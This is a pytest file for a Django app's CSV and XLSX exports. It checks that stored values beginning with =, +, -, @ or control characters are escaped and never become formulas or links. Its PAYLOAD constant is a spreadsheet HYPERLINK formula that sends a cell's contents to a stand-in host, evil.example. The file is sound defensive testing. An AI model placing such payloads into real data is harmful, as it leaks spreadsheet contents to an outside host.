"""Issue #13 §5: a hostile value in every text field that reaches an export never becomes a formula or a link.

Each field gets a value starting with one of OWASP's dangerous characters (= + - @ TAB CR LF); every CSV and XLSX
the secretariat can download is read back: no CSV cell starts with one of them, no XLSX cell is a formula or a
link, and the hostile text is there (as text), so the test cannot pass by exporting nothing.
"""

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from sinergi.core.spreadsheets import DANGEROUS_STARTS

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n="]
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A5,"Klik")'

# (model, fields, filter) — the free-text fields the exports show, on Kota Metro's rows.
FIELDS = [
    ("organizations.Government", ["address", "phone"], {"region_id": "18.72"}),
    ("organizations.Agency", ["name", "head_name", "address"], {"government__region_id": "18.72"}),
    ("accounts.User", ["full_name", "position"], {}),
    ("coordination.Meeting", ["title", "place", "chair_name", "letter_number"], {}),
    ("coordination.Decision", ["text"], {}),
    ("coordination.FollowUp", ["description", "result"], {}),
    ("programmes.Event", ["title"], {}),
    ("programmes.UrineTestCampaign", ["host_name"], {"host_agency__isnull": True}),
    ("programmes.VolunteerGroup", ["name"], {}),
    ("programmes.Volunteer", ["name"], {}),
    ("planning.Action", ["title"], {}),
    ("planning.Indicator", ["name", "unit"], {}),
]

EXPORTS = [
    "/perangkat-daerah/?export={fmt}",
    "/pengguna/?export={fmt}",
    "/rapat/?export={fmt}",
    "/tindak-lanjut/?export={fmt}",
    "/kegiatan/?export={fmt}",
    "/tes-urine/?export={fmt}",
    "/relawan/?export={fmt}",
    "/relawan/anggota/?export={fmt}",
    "/rekap-program/dokumen.{fmt}?by=agency",
    "/rekap-program/dokumen.{fmt}?by=region",
]


def _poison():
    from django.apps import apps
    from django.db.models import CharField, F, Value
    from django.db.models.functions import Cast, Concat, Substr

    index = 0
    for label, fields, where in FIELDS:
        model = apps.get_model(label)
        for field in fields:
            start = STARTS[index % len(STARTS)]
            limit = model._meta.get_field(field).max_length or 10_000
            text = Concat(Value(start + PAYLOAD + " "), Cast(F("pk"), CharField()))  # unique, like names must be
            model.objects.filter(**where).update(**{field: Substr(text, 1, limit)})
            index += 1


def _check_csv(content: bytes):
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    for cell in cells:
        assert not cell.startswith(DANGEROUS_STARTS) or _number(cell), cell
    return cells


def _number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def _check_xlsx(content: bytes):
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        assert not sheet._hyperlinks
        for row in sheet.iter_rows():
            for cell in row:
                # The only formulas are the totals the RAD matrix writes itself.
                is_total = cell.data_type == "f" and re.fullmatch(
                    r"=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+(\+[A-Z]+\d+)*)", cell.value
                )
                assert cell.data_type != "f" or is_total, (sheet.title, cell.coordinate, cell.value)
                cells.append(str(cell.value))
    return cells


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_export_runs_a_stored_value_as_a_formula(login, fmt):
    from sinergi.planning.models import RegionalPlan

    _poison()
    client = login("sekretariat")
    plan = RegionalPlan.objects.filter(government__region_id="18.72").order_by("-pk").first()
    urls = [url.format(fmt=fmt) for url in EXPORTS]
    if fmt == "xlsx":
        urls.append(f"/rencana/{plan.pk}/dokumen.xlsx")
    seen = 0
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _check_csv(_body(response)) if fmt == "csv" else _check_xlsx(_body(response))
        seen += sum(PAYLOAD[:9] in cell for cell in cells)
    assert seen > 0


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_catalogue_exports_escape_descriptions(login, fmt):
    from sinergi.planning.models import NationalAction, NationalPlan

    NationalAction.objects.update(description="\t=" + PAYLOAD)
    national = NationalPlan.objects.filter(fields__actions__isnull=False).first()
    response = login("admin").get(f"/ran/{national.pk}/?export={fmt}")
    assert response.status_code == 200
    cells = _check_csv(_body(response)) if fmt == "csv" else _check_xlsx(_body(response))
    assert any(PAYLOAD in cell for cell in cells)


def test_the_catalogue_round_trip_keeps_a_hostile_description(db):
    from sinergi.planning import catalogue
    from sinergi.planning.models import NationalAction, NationalPlan

    NationalAction.objects.update(description="=" + PAYLOAD)
    national = NationalPlan.objects.filter(fields__actions__isnull=False).first()
    rows = catalogue._read_rows(catalogue.catalogue_export(national, "csv"), "csv")
    assert {row["description"] for row in rows if row["description"]} == {"=" + PAYLOAD}
